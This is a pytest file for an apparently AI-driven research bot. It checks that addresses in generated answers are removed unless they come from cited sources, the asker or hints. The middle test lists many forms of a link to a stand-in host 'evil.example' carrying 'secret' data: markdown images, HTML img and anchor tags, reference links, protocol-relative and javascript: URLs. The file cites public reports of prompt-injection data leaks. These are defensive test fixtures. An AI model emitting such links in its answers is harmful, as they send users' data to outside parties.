"""Public bug reports about addresses in answers, as tests of the loop.

Each test names its report: the address is `https://github.com/<repository>/issues/<number>`.
"""

import pytest

from bot.research import AnswerDelta, WebHit
from tests.fakes.research import calls, play, says, searches
from tests.fakes.search import FakeSearch, hit, hits

WEB_CALL = calls(("web_search", {"query": "x"}))
EVIL = "https://evil.example/c?d=secret"


def drafted(played):
    return "".join(event.text for event in played.events if isinstance(event, AnswerDelta))


# assafelovic/gpt-researcher#1204, qx-labs/agents-deep-research#15: sources at example.com


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("It flies [1]. See https://example.com/a for more.", "It flies [1]. See for more."),
        ("It flies [1], says [Company A](https://example.com/a).", "It flies [1], says Company A."),
    ],
)
async def test_an_address_that_nothing_returned_is_removed(text, answer):
    played = await play(searches(), says(text), search=FakeSearch(hits(1)))
    assert " ".join(played.result.answer.split()) == answer


# PostHog/posthog#59630, dust-tt/dust#12359, epam/ai-dial-chat#7109, NVIDIA/garak#1930: an address that carries data out


@pytest.mark.parametrize(
    "text",
    [
        f"It flies [1]. {EVIL}", f"It flies [1]. <{EVIL}>", f"It flies [1]. [more]({EVIL})",
        f"It flies [1]. ![a]({EVIL})",
        f"It flies [1]. <{EVIL}|more>", f"It flies [1]. <img src='{EVIL}'>", f'It flies [1]. <a href="{EVIL}">x</a>',
        f"It flies [1]. [more][r]\n\n[r]: {EVIL}", f"It flies [1]. ![more][r]\n\n[r]: {EVIL} \"t\"",
        f"It flies [1]({EVIL}).", f"It flies [1].\n\n[1]: {EVIL}", "It flies [1]. www.evil.example/c?d=secret",
        "It flies [1]. //evil.example/c?d=secret", "It flies [1]. [x](//evil.example/c?d=secret)",
        "It flies [1]. [x](javascript:evil.example)", f"It flies [1]. [![a]({EVIL})]({EVIL})",
        f"It flies [1]. [a\nb](\n{EVIL})", "It flies [1]. HTTPS://EVIL.EXAMPLE/c?d=secret",
    ],
)  # fmt: skip
async def test_no_form_of_an_address_carries_anything_out(text):
    played = await play(searches(), says(text), search=FakeSearch(hits(1)))
    for shown in (played.result.answer, drafted(played)):
        assert "evil.example" not in shown.lower()
        assert "It flies [1]" in shown
    assert len(played.result.sources) == 1


async def test_an_address_in_a_passage_is_material_and_stays_only_as_code():
    passage = hit(content_snippet="Open https://portal.example/x to log in.")
    text = "Open https://portal.example/x [1], or [the portal](https://portal.example/x)."
    played = await play(searches(), says(text), search=FakeSearch([passage]))
    assert played.result.answer == "Open `https://portal.example/x` [1], or the portal."


async def test_an_address_in_a_passage_that_is_not_cited_is_removed():
    passage = hit(2, content_snippet="Open https://portal.example/x to log in.")
    played = await play(
        searches(), says("It flies [1]. https://portal.example/x"), search=FakeSearch([hit(1), passage])
    )
    assert played.result.answer == "It flies [1]."


@pytest.mark.parametrize(
    ("query", "hints"),
    [("Read https://ours.example/a please", []), ("What is Falcon?", ["The site: https://ours.example/a."])],
)
async def test_an_address_of_the_asker_or_of_a_hint_lives(query, hints):
    played = await play(says("See https://ours.example/a."), query=query, run={"hints": hints})
    assert played.result.answer == "See https://ours.example/a."
    assert drafted(played) == "See https://ours.example/a."


async def test_an_address_of_a_cited_source_lives_and_of_an_uncited_one_does_not():
    found = [WebHit("A", "https://a.example/x"), WebHit("B", "https://b.example/y")]
    text = "[A](https://a.example/x?utm_source=chat) [1] and [B](https://b.example/y)"
    played = await play(WEB_CALL, says(text), web_search=lambda *_: found)
    assert "a.example/x" in played.result.answer
    assert "b.example" not in played.result.answer
